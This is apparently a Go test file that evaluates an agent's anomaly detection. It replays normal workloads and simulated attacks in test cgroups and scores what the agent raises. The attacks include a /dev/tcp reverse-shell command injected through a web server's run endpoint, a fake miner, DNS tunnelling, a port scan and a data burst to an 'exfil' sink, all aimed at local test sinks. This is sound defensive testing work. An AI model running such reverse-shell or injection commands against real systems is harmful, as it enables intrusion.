// Package eval replays normal workloads and attacks in test cgroups under
// a real agent with --anomaly-detection, in compressed time, and scores
// what the agent raises: `make anomaly-eval` (the long form, which writes
// its table into docs/anomaly.md); `make test` runs a short form.
package eval

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/orb8/orb8/internal/audit"
	"github.com/orb8/orb8/internal/testutil"
)

var (
	minuteFlag = flag.Duration("eval.minute", 100*time.Millisecond, "the model's minute: a day lasts 1440 of them")
	learnFlag  = flag.Int("eval.learn", 120, "minutes the profiles learn")
	daysFlag   = flag.Float64("eval.days", 0.25, "days of normal activity after learning, before the attacks")
	docFlag    = flag.String("eval.doc", "", "markdown file whose results section the table replaces")
)

func TestMain(m *testing.M) { testutil.Helpers(m, helpers) }

// dnsAddr is where the evaluation's DNS server listens: a loopback address
// of its own, so that no other test's responder on 127.0.0.1:53 collides.
const dnsAddr = "127.0.8.53:53"

// knownNames are the names the DNS server answers; it says NXDOMAIN to
// every other.
var knownNames = []string{"api.shop.example", "cdn.shop.example", "auth.shop.example"}

func freeAddr(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().String()
}

// attack is one attack scenario: what it does to which workload, and
// when it ran.
type attack struct {
	name, workload, what string
	run                  func() error
	begin, end           time.Time
	kinds                []string // what the agent raised for it
	events               int
}

// alarm is an anomaly outside every attack.
type alarm struct {
	workload, kind, item string
	at                   time.Time
}

func TestAnomalyEval(t *testing.T) {
	testutil.RequireRoot(t)
	size := *minuteFlag
	minutes := func(n float64) time.Duration { return time.Duration(n * float64(size)) }

	dns, err := net.ListenPacket("udp", dnsAddr)
	if err != nil {
		t.Fatalf("DNS server on %s: %v", dnsAddr, err)
	}
	t.Cleanup(func() { dns.Close() })
	go serveDNS(dns, func(name string) bool { return slices.Contains(knownNames, name) })
	backup, pool, exfil, shell := testutil.Sink(t).String(), testutil.Sink(t).String(), testutil.Sink(t).String(), testutil.Sink(t).String()
	webAddr := freeAddr(t)

	root := testutil.NewCgroup(t)
	cgroups := map[string]*testutil.Cgroup{}
	for _, w := range []string{"web", "clients", "batch", "cron"} {
		cgroups[w] = root.Child(t, w)
	}
	workloadOf := map[string]string{}
	for w, cg := range cgroups {
		workloadOf[cg.Path] = w
	}
	auditLog := filepath.Join(t.TempDir(), "audit.log")
	agent := testutil.StartAgent(t, "--probes", "cgroup,process,network,dns", "--anomaly-detection",
		"--anomaly-learning", minutes(float64(*learnFlag)).String(), "--anomaly-minute", size.String(),
		"--state-dir", t.TempDir(), "--audit-log", auditLog, "--max-overhead", "1")

	// The anomalies as `orb8 trace anomaly` streams them (the first come
	// after learning, long after it subscribed).
	traced := &testutil.Buffer{}
	trace := exec.Command(testutil.Binary(t), "trace", "anomaly", "--agent", agent.API, "-o", "json")
	trace.Stdout = traced
	if err := trace.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { trace.Process.Kill(); trace.Wait() })

	start := func(w, helper string, args ...string) {
		cmd := cgroups[w].Helper(t, helper, append([]string{size.String()}, args...)...)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	}
	start("web", "web", webAddr)
	testutil.Eventually(t, 10*time.Second, func() bool {
		c, err := net.Dial("tcp", webAddr)
		if err == nil {
			c.Close()
		}
		return err == nil
	}, "the web server never listened")
	begun := time.Now()
	start("clients", "clients", webAddr, dnsAddr)
	start("batch", "batch")
	start("cron", "cron", backup)

	learned := begun.Add(minutes(float64(*learnFlag)))
	normalEnd := learned.Add(minutes(*daysFlag * 1440))
	t.Logf("learning %d minutes of %s, then %.2f days of normal activity: %s", *learnFlag, size, *daysFlag, time.Until(normalEnd).Round(time.Second))
	time.Sleep(time.Until(normalEnd))

	xmrig := filepath.Join(t.TempDir(), "xmrig")
	copyFile(t, os.Args[0], xmrig)
	pkgRoot := t.TempDir()
	attacks := []*attack{
		{name: "reverse shell", workload: "web", what: "the web server runs bash, which connects back to a new port",
			run: func() error {
				c := "exec 3<>/dev/tcp/" + strings.Replace(shell, ":", "/", 1) + "; echo id >&3; exec 3>&-"
				resp, err := http.Get("http://" + webAddr + "/run?c=" + url.QueryEscape(c))
				if err == nil {
					resp.Body.Close()
				}
				return err
			}},
		{name: "crypto miner", workload: "batch", what: "a new binary connects to a pool on a new port and burns CPU",
			run: func() error {
				cmd := cgroups["batch"].Command(t, xmrig, "-test.run=^$", pool)
				cmd.Env = append(os.Environ(), "ORB8_TEST_HELPER=miner")
				return cmd.Run()
			}},
		{name: "DNS tunnelling", workload: "clients", what: "300 queries of 56 random base32 characters under the known domain, over 20 minutes",
			run: func() error {
				return cgroups["clients"].Helper(t, "tunnel", dnsAddr, "300", "shop.example", minutes(20).String()).Run()
			}},
		{name: "port scan", workload: "clients", what: "connections to 300 closed ports",
			run: func() error { return cgroups["clients"].Helper(t, "scan", "40000", "300").Run() }},
		{name: "data burst", workload: "clients", what: "64 MiB sent to a new peer",
			run: func() error { return cgroups["clients"].Helper(t, "burst", exfil, "64").Run() }},
		{name: "package manager", workload: "batch", what: "bash installs 40 packages: new binaries writing files, run from new paths",
			run: func() error {
				script := `set -e; for i in $(seq 40); do d=` + pkgRoot + `/usr/lib/pkg$i; mkdir -p $d; cp /usr/bin/true $d/postinst; ` +
					`chmod 755 $d/postinst; $d/postinst; tar -cf $d.tar -C ` + pkgRoot + `/usr/lib pkg$i; done`
				return cgroups["batch"].Command(t, "/bin/bash", "-c", script).Run()
			}},
	}
	// An attack's anomalies may come until its episode's minutes close:
	// grace after it; the next starts once episodes ended (10 quiet minutes).
	grace, gap := minutes(5), minutes(15)
	for _, a := range attacks {
		a.begin = time.Now()
		if err := a.run(); err != nil {
			t.Errorf("attack %s: %v", a.name, err)
		}
		a.end = time.Now()
		time.Sleep(gap)
	}
	end := time.Now()
	time.Sleep(minutes(3))

	streamed := tracedRates(t, traced.String())
	var alarms []alarm
	rates := map[string]int{} // rate anomalies audited, by cgroup
	for _, r := range auditRecords(t, auditLog) {
		w, ok := workloadOf[r.Workload.Cgroup]
		if !ok || r.Anomaly == nil {
			continue
		}
		if r.Anomaly.Kind == "rate" {
			rates[r.Workload.Cgroup]++
			if !streamed[r.Workload.Cgroup+" "+r.Anomaly.Item] {
				t.Errorf("orb8 trace anomaly did not stream the rate anomaly %+v", r.Anomaly)
			}
		}
		kind := r.Anomaly.Kind
		if kind == "rate" {
			kind += ":" + r.Anomaly.Item
		}
		var hit *attack
		for _, a := range attacks {
			if a.workload == w && !r.Time.Before(a.begin.Add(-size)) && !r.Time.After(a.end.Add(grace)) {
				hit = a
			}
		}
		if hit == nil {
			alarms = append(alarms, alarm{w, r.Anomaly.Kind, r.Anomaly.Item, r.Time})
			continue
		}
		hit.events++
		if !slices.Contains(hit.kinds, kind) {
			hit.kinds = append(hit.kinds, kind)
		}
	}
	for path, n := range rates {
		if got := rateCount(t, agent.URL, path); got != n {
			t.Errorf(`orb8_anomalies_total{kind="rate",cgroup=%q} = %d, want %d (the audit log's)`, path, got, n)
		}
	}
	workloadDays := float64(len(cgroups)) * float64(end.Sub(learned)) / float64(minutes(1440))
	table := report(attacks, alarms, workloadDays, size, *learnFlag)
	t.Log("\n" + table)
	if *docFlag != "" {
		writeSection(t, *docFlag, table)
	}
	for _, a := range attacks {
		if a.events == 0 {
			t.Errorf("attack %s on %s not detected", a.name, a.workload)
		}
	}
	if float64(len(alarms)) > workloadDays/10 {
		t.Errorf("%d false alarms in %.2f workload-days, want at most 1 per 10: %+v", len(alarms), workloadDays, alarms)
	}
}

// tracedRates are the rate anomalies of `orb8 trace anomaly -o json`'s
// lines, as "CGROUP FEATURE".
func tracedRates(t *testing.T, out string) map[string]bool {
	t.Helper()
	seen := map[string]bool{}
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var e struct {
			Workload   struct{ Cgroup string }
			Attributes struct{ Anomaly struct{ Kind, Item string } }
		}
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("trace line %q: %v", line, err)
		}
		if e.Attributes.Anomaly.Kind == "rate" {
			seen[e.Workload.Cgroup+" "+e.Attributes.Anomaly.Item] = true
		}
	}
	return seen
}

// rateCount is orb8_anomalies_total{kind="rate"} of the cgroup.
func rateCount(t *testing.T, metricsURL, path string) int {
	t.Helper()
	resp, err := http.Get(metricsURL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	n := 0
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		line := sc.Text()
		if strings.HasPrefix(line, "orb8_anomalies_total{") && strings.Contains(line, `kind="rate"`) && strings.Contains(line, `cgroup="`+path+`"`) {
			var v float64
			fmt.Sscan(line[strings.LastIndexByte(line, ' ')+1:], &v)
			n += int(v)
		}
	}
	return n
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	data, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, data, 0o755); err != nil {
		t.Fatal(err)
	}
}

func auditRecords(t *testing.T, path string) []audit.Record {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	var out []audit.Record
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var r audit.Record
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatalf("audit line %q: %v", sc.Text(), err)
		}
		out = append(out, r)
	}
	return out
}

// report is the results as markdown.
func report(attacks []*attack, alarms []alarm, workloadDays float64, size time.Duration, learn int) string {
	var b strings.Builder
	detected, events := 0, 0
	fmt.Fprintf(&b, "| attack | workload | what | detected | raised (kinds) | events |\n|---|---|---|---|---|---|\n")
	for _, a := range attacks {
		yes := "no"
		if a.events > 0 {
			yes, detected = "yes", detected+1
		}
		events += a.events
		fmt.Fprintf(&b, "| %s | %s | %s | %s | %s | %d |\n", a.name, a.workload, a.what, yes, strings.Join(a.kinds, ", "), a.events)
	}
	precision := 1.0
	if events+len(alarms) > 0 {
		precision = float64(events) / float64(events+len(alarms))
	}
	fmt.Fprintf(&b, "\nMinute %s (a day in %s), %d minutes of learning; %.1f workload-days after learning (web, clients, batch, cron).\n\n",
		size, (1440 * size).Round(time.Second), learn, workloadDays)
	fmt.Fprintf(&b, "| recall (attacks detected) | precision (anomaly events during attacks, of all) | false alarms | per workload-day |\n|---|---|---|---|\n")
	fmt.Fprintf(&b, "| %d/%d | %.3f (%d of %d) | %d | %.3f |\n", detected, len(attacks), precision, events, events+len(alarms), len(alarms), float64(len(alarms))/workloadDays)
	for _, a := range alarms {
		fmt.Fprintf(&b, "\nFalse alarm: %s %s %q at %s", a.workload, a.kind, a.item, a.at.Format(time.RFC3339Nano))
	}
	return b.String()
}

const beginMark, endMark = "<!-- anomaly-eval:begin -->", "<!-- anomaly-eval:end -->"

// writeSection replaces what is between the markers in path with table.
func writeSection(t *testing.T, path, table string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	doc := string(data)
	i, j := strings.Index(doc, beginMark), strings.Index(doc, endMark)
	if i < 0 || j < i {
		t.Fatalf("%s has no %s ... %s section", path, beginMark, endMark)
	}
	doc = doc[:i+len(beginMark)] + "\n" + table + "\n" + doc[j:]
	if err := os.WriteFile(path, []byte(doc), 0o644); err != nil {
		t.Fatal(err)
	}
}
